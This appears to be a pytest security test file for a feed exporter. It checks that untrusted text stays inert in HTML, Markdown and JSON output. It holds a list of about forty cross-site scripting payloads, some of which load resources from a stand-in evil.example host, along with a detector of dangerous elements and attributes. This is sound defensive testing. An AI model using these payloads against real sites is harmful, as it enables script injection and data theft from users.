"""Whatever strangers write, no form of an edition does more than show it."""

from __future__ import annotations

import json
import os
import tarfile
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import html
from markdown_it import MarkdownIt

from tests.exporters.editions import edition, item, link
from worker.edition import Edition, Failure
from worker.errors import Unparsable
from worker.parsers import prose
from worker.parsers.entry import address, received
from worker.parsing import parsed
from worker.plugins import EXPORTERS, Exporter, forms

#: All that people read, so that a new one is tried at once; a book is tested in its own way.
FORMS: dict[str, Exporter] = {form: EXPORTERS.find(form)() for form in forms() if form != "epub"}
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css'</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    '<iframe src="http://evil.example/"></iframe>',
    '<form action="http://evil.example/"><input name=q></form>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](http://evil.example/p.gif)",
    "<http://evil.example/>",
    "`</code><script>alert(1)</script>`",
    "[x]: javascript:alert(1)\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% raw %}",
    "<x onclick=alert(1)>click</x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x.example",
    "data:text/html,<script>alert(1)</script>",
    "https://x.example/\"onmouseover='alert(1)'",
    "https://x.example/'><script>alert(1)</script>",
    "vbscript:msgbox(1)",
)
_LINKS = ("href", "src", "action", "formaction", "data", "background", "poster", "xlink:href", "srcset")
_ACTIVE = ("script", "iframe", "object", "embed", "form", "base", "applet", "frame", "svg", "math", "input", "img")


def dangers(page: str, own: Iterable[str] = ()) -> list[str]:
    """What a browser would act on in a page, but for the elements that are its own."""
    found = []
    for element in html.document_fromstring(page).iter():
        name = str(element.tag)
        if name in _ACTIVE or (name in ("link", "meta", "style") and name not in own):
            found.append(f"<{name}>")
        for key, value in ((str(key), str(value)) for key, value in element.attrib.items()):
            if key.lower().startswith("on"):
                found.append(f"{name} {key}")
            if key.lower() in _LINKS and not value.strip().lower().startswith(("http://", "https://", "#")):
                found.append(f"{name} {key}={value[:60]}")
            if key == "style" and "url(" in value:
                found.append(f"{name} style")
        if name == "style" and ("@import" in (element.text or "") or "url(" in (element.text or "")):
            found.append("style with a remote part")
    return found


def hostile(payload: str) -> Edition:
    """An edition that has the payload wherever a stranger's words may stand."""
    way = replace(link(1, url=payload or "x", outlet=payload), title=payload)
    other = replace(link(2, url=f"https://x.example/{payload}", outlet=payload), title=payload)
    told = item(payload, [(payload, 1), (payload, 2)], [way, other])
    return replace(edition(told, title=payload), failures=(Failure(payload, payload),))


def check(payload: str) -> None:
    """All forms of the edition, and the payload as our parser leaves it, in all forms as well."""
    cleaned = " ".join(prose.paragraphs(payload))
    for text in dict.fromkeys((payload, cleaned, prose.line(payload), address(payload))):
        made = hostile(text)
        contents = {form: exporter.export(made).parts[0].content for form, exporter in FORMS.items()}
        assert dangers(contents["html"], own=("meta", "style")) == []
        marked = contents["markdown"].split("\n---\n", 1)[1]
        assert dangers(MarkdownIt("commonmark", {"html": True}).render(marked)) == []
        json.loads(contents["json"])
        assert [form for form, content in contents.items() if "\x00" in content] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_nothing(payload: str) -> None:
    check(payload)


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if "<" in text and "&lt;" not in text])
def test_what_the_parser_leaves_is_plain_even_unescaped(payload: str) -> None:
    """Were a form to forget its escapes, real markup would be gone all the same."""
    assert dangers(f"<p>{' '.join(prose.paragraphs(payload))}</p>") == []


def test_every_payload_of_the_corpora() -> None:
    """All of xss.jsonl, where UNBURY_EVAL_DATA names a folder that has it."""
    folder = os.environ.get("UNBURY_EVAL_DATA")
    if not folder:
        pytest.skip("UNBURY_EVAL_DATA names no folder with xss.jsonl")
    lines = (Path(folder) / "xss.jsonl").read_text(encoding="utf-8").rstrip("\n").split("\n")
    dangerous = []
    for line in lines:
        row = json.loads(line)
        try:
            check(row["payload"])
        except AssertionError as error:
            dangerous.append((row["id"], str(error)[:200]))

    assert lines
    assert dangerous == []


def test_every_bomb_of_the_corpora() -> None:
    """All of xmlbombs.tar.gz: refused, or entries whose words do nothing in any form."""
    folder = os.environ.get("UNBURY_EVAL_DATA")
    if not folder:
        pytest.skip("UNBURY_EVAL_DATA names no folder with xmlbombs.tar.gz")
    with tarfile.open(Path(folder) / "xmlbombs.tar.gz") as archive:
        files = [archive.extractfile(member) for member in archive if member.isfile()]
        contents = [file.read() for file in files if file]
    for content in contents:
        try:
            found = parsed("feed", content, 5.0, url="https://x.example/feed")
        except Unparsable:
            continue
        for entry in map(received, found.get("entries", ())):
            assert "root:" not in str(entry)
            for text in (entry.title, entry.author, *entry.paragraphs):
                check(text)

    assert len(contents) >= 10
